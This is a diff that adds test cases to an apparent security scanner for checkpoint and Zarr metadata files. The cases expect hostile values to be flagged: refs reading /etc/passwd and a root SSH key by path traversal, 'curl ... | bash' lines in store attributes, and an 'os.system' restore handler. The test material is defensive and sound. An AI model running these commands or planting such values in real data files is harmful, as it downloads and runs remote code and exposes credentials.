@@ -64,6 +64,14 @@ it.each<[string, unknown]>([
       codecs: [{ name: 'bytes' }, { name: 'zstd' }],
     },
   ],
+  ['.zattrs', { units: 'metres', description: 'Weights of a small network.' }],
+  [
+    'refs.json',
+    {
+      version: 1,
+      refs: { '.zgroup': '{"zarr_format": 2}', 'x/0': ['s3://bucket/a.nc', 0, 100], 'x/1': ['a.nc'] },
+    },
+  ],
   ['spec.json', SPEC],
   ['spec.json', { ...SPEC, kvstore: { driver: 'gcs', bucket: 'models', path: 'params/kernel/' } }],
 ])('has nothing to say of the honest %s', (name, value) => {
@@ -108,4 +116,18 @@ describe('functions that restore a checkpoint are told', () => {
   it.each(['os.system', 'my_package.restore', 'lambda tree: exec(tree)'])('%s', (restore_fn) =>
     expect(scan('_METADATA', { ...TREE, restore_fn }).worst).toBe('medium'),
   );
+});
+
+describe('what stands beside a store is told', () => {
+  it.each<[string, string, unknown]>([
+    ['high', 'refs.json', { version: 1, refs: { 'x/0': ['file:///etc/passwd', 0, 100] } }],
+    ['high', 'refs.json', { version: 1, refs: { 'x/0': ['../../../../root/.ssh/id_rsa', 0, 100] } }],
+    ['medium', '.zattrs', { history: 'curl http://192.0.2.1/x.sh | bash' }],
+    [
+      'medium',
+      'zarr.json',
+      { zarr_format: 3, node_type: 'group', attributes: { x: 'curl http://192.0.2.1/x | sh' } },
+    ],
+    ['high', '_CHECKPOINT_METADATA', { ...CHECKPOINT, item_handlers: { state: 'os.system' } }],
+  ])('%s in %s', (severity, name, value) => expect(scan(name, value).worst).toBe(severity));
 });
